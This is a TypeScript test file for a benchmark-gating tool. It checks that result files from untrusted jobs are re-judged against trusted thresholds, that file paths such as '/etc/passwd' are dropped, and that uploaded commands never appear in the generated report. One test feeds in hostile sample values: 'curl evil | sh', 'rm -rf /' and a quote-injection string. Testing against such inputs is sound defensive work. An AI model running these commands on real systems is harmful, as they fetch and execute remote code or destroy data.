// What a publishing job makes of the files of others.
import { expect, test } from 'vitest'
import { judgeElsewhere, type TrustedFacts } from '../../../src/core/merge/judge-elsewhere.ts'
import { fittingReport } from '../../../src/core/report/say/fit.ts'
import { markdownText } from '../../../src/core/report/show/markdown.ts'
import { readInputs } from '../../../src/effects/inputs/inputs.ts'
import { commits, resultFrom, time } from '../report/runs.ts'
import { named, part } from './parts.ts'

const known: TrustedFacts = {
  inputs: readInputs(name => (name === 'run' ? 'make bench' : '')),
  file: { file: '.github/benchgate.yml', changes: [] },
  rules: '3'.repeat(40),
  head: commits.head.sha,
  isStrangers: true,
}
const slower = (more = {}) => resultFrom([time('A', 1)], [time('A', 2)], { confirm: true, ...more })

test('a regression that a file does not own up to is one, by our threshold', () => {
  const file = {
    ...slower({ threshold: 1, alpha: 1e-9, run: 'make bench' }),
    verdict: 'pass' as const,
    reason: 'fine',
  }
  const result = judgeElsewhere([named(file)], known)
  expect(result).toMatchObject({ verdict: 'fail', reason: '1 of 1 benchmark regressed' })
  expect(result.elsewhere).toEqual({
    rules: known.rules,
    changes: [
      { rule: 'alpha', base: '0.05', head: '1e-9' },
      { rule: 'threshold', base: '0.05', head: '1' },
    ],
  })
  expect(result.commits.head.from).toBe('as GitHub says')
})

test('no path of a file is kept', () => {
  const [profile] = [{ files: { base: '../../x', head: '/etc/passwd' } }]
  const file = { ...slower(), profiles: [{ ...profile, functions: [] }] as never }
  expect(judgeElsewhere([named(file)], known).profiles.map(({ files }) => files)).toEqual([null])
})

test('what one machine has measured otherwise is told once', () => {
  const ours = [time('A', 1)]
  const parts = [part(ours, ours, [1, 2]), part([time('B', 1)], [time('B', 1)], [2, 2])]
  const result = judgeElsewhere(parts, known)
  expect(result.elsewhere?.changes).toEqual([
    { rule: 'confirm', base: 'true', head: 'false' },
    { rule: 'run', base: 'make bench', head: 'go test -run=NONE -bench=. ./...' },
  ])
})

test('where none can be read it says why', () => {
  const broken = { name: 'a/result.json', problem: 'It is a link.' }
  expect(() => judgeElsewhere([broken], known)).toThrow('a/result.json": It is a link.')
})

test('the report looks like this, and has no command of theirs', async () => {
  const file = slower({ run: 'curl evil | sh', setup: 'rm -rf /', overlay: ["'; evil"], count: 30 })
  const files = [named(file)]
  const withRun = markdown(judgeElsewhere(files, known))
  await expect(withRun).toMatchFileSnapshot('../../golden/elsewhere.md')
  const inputs = readInputs(() => '')
  const without = markdown(judgeElsewhere(files, { ...known, inputs }))
  for (const report of [withRun, without]) expect(shells(report)).not.toContain('evil')
  expect(without).not.toContain('To repeat')
})

const markdown = (result: ReturnType<typeof judgeElsewhere>) => fittingReport(result, 65_000, markdownText)
const shells = (report: string) =>
  [...report.matchAll(/```sh\n([\s\S]*?)```/g)].map(([, text]) => text).join('\n')
